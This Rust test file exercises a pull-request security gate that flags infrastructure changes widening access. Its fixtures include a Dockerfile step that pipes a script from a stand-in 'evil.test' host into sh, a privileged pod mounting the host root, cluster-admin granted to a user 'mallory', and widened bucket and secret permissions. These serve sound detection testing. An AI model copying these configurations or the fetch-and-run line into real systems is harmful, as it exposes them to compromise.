//! What another value in the same place means for a pull request: whoever opens more than was accepted is told, and whoever mends,
//! renames or reformats is not.
#![allow(clippy::unwrap_used)]

mod support;

use support::change::{Change, Judged};
use support::report::list;
use support::run::gate;

/// A change of one file, from one text to another.
fn change(path: &str, from: &str, to: &str) -> Judged {
    assert_ne!(from, to);
    Change::from(&[(path, from)]).write(path, to).judged(&["--fail-on", "low"])
}

/// Statuses other than old.
fn told(judged: &Judged) -> Vec<String> {
    [judged.of("new"), judged.of("worse")].concat()
}

fn group(name: &str, port: u16) -> String {
    format!(
        "resource \"aws_security_group\" \"{name}\" {{\n  description = \"x\"\n  ingress {{\n    description = \"w\"\n    \
         from_port   = {port}\n    to_port     = {port}\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }}\n}}\n"
    )
}

const POD: &str = "apiVersion: v1
kind: Pod
metadata:
  name: agent
  namespace: tools
spec:
  volumes:
    - name: host
      hostPath:
        path: /etc/agent
  containers:
    - name: agent
      image: registry.acme.test/agent:1.2.3
      ports:
        - containerPort: 8080
          hostPort: 8080
      securityContext:
        privileged: true
        capabilities:
          drop: [ALL]
          add: [NET_ADMIN]
";

const ROLE: &str = "apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata:
  name: reader
rules:
  - apiGroups: ['']
    resources: [secrets]
    verbs: [get]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: admins
roleRef:
  apiGroup: rbac.authorization.k8s.io
  kind: ClusterRole
  name: cluster-admin
subjects:
  - kind: Group
    apiGroup: rbac.authorization.k8s.io
    name: platform
";

const BUCKET: &str = r#"resource "aws_s3_bucket_policy" "site" {
  bucket = "site"
  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Sid       = "read"
      Effect    = "Allow"
      Principal = "*"
      Action    = "s3:GetObject"
      Resource  = "arn:aws:s3:::site/public/*"
    }]
  })
}
"#;

const IMAGE: &str = "FROM debian:12.6
RUN curl -sSf https://get.acme.test/v1/install.sh | sh
USER 10001
";

#[test]
fn what_opens_something_else_is_told() {
    let cases = [
        ("another port", "net.tf", group("a", 9200), group("a", 5432)),
        ("another file of the host", "pod.yaml", POD.into(), POD.replace("/etc/agent", "/")),
        ("another capability", "pod.yaml", POD.into(), POD.replace("NET_ADMIN", "SYS_ADMIN")),
        ("another port of the host", "pod.yaml", POD.into(), POD.replace("hostPort: 8080", "hostPort: 22")),
        (
            "another container",
            "pod.yaml",
            POD.into(),
            POD.replace("- name: agent", "- name: shell")
                .replace("registry.acme.test/agent:1.2.3", "evil.test/x:1.0.0"),
        ),
        ("more verbs", "role.yaml", ROLE.into(), ROLE.replace("verbs: [get]", "verbs: [get, list, delete]")),
        (
            "one more who may all",
            "role.yaml",
            ROLE.into(),
            format!("{ROLE}  - kind: User\n    apiGroup: rbac.authorization.k8s.io\n    name: mallory\n"),
        ),
        ("another action", "bucket.tf", BUCKET.into(), BUCKET.replace("s3:GetObject", "s3:PutObject")),
        ("all objects", "bucket.tf", BUCKET.into(), BUCKET.replace("site/public/*", "site/*")),
        ("another host's script", "Dockerfile", IMAGE.into(), IMAGE.replace("get.acme.test", "evil.test")),
    ];
    for (what, path, from, to) in cases {
        let judged = change(path, &from, &to);
        assert!(!told(&judged).is_empty(), "{what}: {:?}", judged.of("old"));
        assert_eq!(judged.code, 1, "{what}");
    }
}

#[test]
fn what_opens_no_more_is_old() {
    let cases = [
        ("another description", "net.tf", group("a", 9200), group("a", 9200).replace("\"w\"", "\"search\"")),
        ("a smaller network", "net.tf", group("a", 9200), group("a", 9200).replace("0.0.0.0/0", "128.0.0.0/1")),
        ("another image", "pod.yaml", POD.into(), POD.replace("1.2.3", "1.2.4")),
        ("another name of the container", "pod.yaml", POD.into(), POD.replace("- name: agent", "- name: collector")),
        ("another object", "pod.yaml", POD.into(), POD.replace("  name: agent\n  n", "  name: agent2\n  n")),
        ("another namespace", "pod.yaml", POD.into(), POD.replace("namespace: tools", "namespace: agents")),
        ("fewer objects", "bucket.tf", BUCKET.into(), BUCKET.replace("public/*", "public/img/*")),
        ("another version of the script", "Dockerfile", IMAGE.into(), IMAGE.replace("v1", "v2")),
        ("a name for the stage", "Dockerfile", IMAGE.into(), IMAGE.replace("12.6", "12.6 AS final")),
        ("a stage before it", "Dockerfile", IMAGE.into(), format!("FROM debian:12.6 AS base\nUSER 10001\n{IMAGE}")),
        (
            "a moved block",
            "net.tf",
            group("a", 9200),
            format!(
                "{}moved {{\n  from = aws_security_group.a\n  to   = aws_security_group.b\n}}\n",
                group("b", 9200).replace("\"x\"", "\"y\"")
            ),
        ),
    ];
    for (what, path, from, to) in cases {
        change(path, &from, &to).assert_unchanged(what);
    }
}

#[test]
fn an_accepted_value_is_not_another_one() {
    let accepted = |text: String| {
        text.replace(
            "  ingress {",
            "  # gate: ignore[aws-security-group-public-sensitive-port] search is public\n  ingress {",
        )
    };
    let judged = change("net.tf", &accepted(group("a", 9200)), &accepted(group("a", 5432)));
    assert_eq!((judged.code, told(&judged).len()), (1, 1), "{}", judged.report);
}

#[test]
fn the_new_one_of_two_is_told() {
    let two = group("a", 9200).replacen("  ingress {", "  ingress {\n    description = \"n\"\n    from_port   = 5432\n    to_port     = 5432\n    protocol    = \"tcp\"\n    cidr_blocks = [\"0.0.0.0/0\"]\n  }\n  ingress {", 1);
    let judged = change("net.tf", &group("a", 9200), &two);
    let new: Vec<&serde_json::Value> =
        list(&judged.report, "findings").iter().filter(|one| one["status"] == "new").collect();
    assert!(!new.is_empty() && new.iter().all(|one| one["at"]["line"].as_u64().unwrap() < 9), "{new:?}");
}

const POLICY: &str = "apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: web
  namespace: shop
spec:
  podSelector: {}
  policyTypes: [Ingress, Egress]
  egress:
    - to:
        - ipBlock:
            cidr: 0.0.0.0/0
      ports:
        - port: 443
";

const HEREDOC: &str = r#"resource "aws_s3_bucket_policy" "site" {
  bucket = "site"
  policy = <<-JSON
    {
      "Version": "2012-10-17",
      "Statement": [
        {"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject", "Resource": "arn:aws:s3:::site/*"}
      ]
    }
  JSON
}
"#;

#[test]
fn rules_around_a_value_are_part_of_it() {
    let wider = [
        ("role.yaml", ROLE, ROLE.replace("resources: [secrets]", "resources: [secrets, pods]")),
        ("bucket.tf", HEREDOC, HEREDOC.replace("GetObject", "PutObject")),
        ("bucket.tf", HEREDOC, HEREDOC.replace("\"s3:GetObject\"", "[\"s3:GetObject\", \"s3:DeleteObject\"]")),
        ("policy.yaml", POLICY, POLICY.replace("port: 443", "port: 22")),
        ("policy.yaml", POLICY, POLICY.replace("      ports:\n        - port: 443\n", "")),
    ];
    for (path, from, to) in wider {
        let judged = change(path, from, &to);
        assert!(!told(&judged).is_empty(), "{to}\n{}", judged.report);
    }
    let reformatted = HEREDOC
        .replace("\"Effect\": \"Allow\", ", "")
        .replace("\"Action\"", "\"Effect\": \"Allow\",\n         \"Action\"");
    change("bucket.tf", HEREDOC, &reformatted).assert_unchanged("the same policy, written in another way");
}

#[test]
fn what_is_not_judged_any_more_is_not_mended() {
    let judged = change("net.tf", &group("a", 9200), &group("a", 9200).replace("tcp\"\n", "tcp\n"));
    assert_eq!((judged.code, judged.fixed().len()), (2, 0), "{}", judged.report);
    let unknown = group("a", 9200).replace("[\"0.0.0.0/0\"]", "var.networks") + "variable \"networks\" {}\n";
    assert_eq!(change("net.tf", &group("a", 9200), &unknown).fixed().len(), 0);
}

#[test]
fn the_branch_to_merge_into_gives_the_rules() {
    let change = Change::from(&[("gate.yaml", "version: 1\nfail-on: never\n"), ("x.tf", "")]);
    change.git(&["checkout", "--quiet", "main"]);
    let change = change.write("gate.yaml", "version: 1\nfail-on: low\n");
    change.commit();
    change.git(&["checkout", "--quiet", "change"]);
    let judged = change.write("x.tf", &group("a", 5432)).judged(&[]);
    assert_eq!((judged.code, judged.proposed()), (1, vec![]), "an older commit has no say");
}

#[test]
fn a_replacement_of_the_base_is_not_followed() {
    let change = Change::from(&[("x.tf", "")]).write("x.tf", &group("a", 5432));
    change.commit();
    change.git(&["replace", "main", "HEAD"]);
    assert_eq!(change.judged(&[]).code, 1);
}

#[test]
fn an_accepted_value_of_a_baseline_is_not_another_one() {
    let folder = support::tree(&[("net.tf", &group("a", 9200))]);
    let gate = |arguments: &[&str]| gate(folder.path(), arguments).status.code();
    assert_eq!(gate(&["baseline", "write"]), Some(0));
    let scan = ["scan", ".", "--baseline", ".gate-baseline.json"];
    std::fs::write(folder.path().join("net.tf"), group("a", 9200).replace("\"w\"", "\"search\"")).unwrap();
    assert_eq!(gate(&scan), Some(0), "another description");
    std::fs::write(folder.path().join("net.tf"), group("a", 5432)).unwrap();
    assert_eq!(gate(&scan), Some(1), "another port");
}

#[test]
fn what_a_list_must_hold_may_not_leave_it() {
    let cluster = |types: &str| {
        format!("resource \"aws_eks_cluster\" \"main\" {{\n  name     = \"main\"\n  role_arn = \"x\"\n{types}}}\n")
    };
    let logs = |types: &str| cluster(&format!("  enabled_cluster_log_types = [{types}]\n"));
    let from = logs("\"api\", \"audit\"");
    for to in [logs("\"api\""), logs("\"api\", \"scheduler\""), logs(""), cluster("")] {
        assert_eq!(
            change("eks.tf", &from, &to).of("worse"),
            ["aws-eks-missing-control-plane-logs aws_eks_cluster.main"],
            "{to}"
        );
    }
    for to in [logs("\"audit\", \"api\""), logs("\"api\", \"audit\", \"scheduler\"")] {
        change("eks.tf", &from, &to).assert_unchanged(&to);
    }
    change("eks.tf", &cluster(""), &from).assert_unchanged("some logs");
}
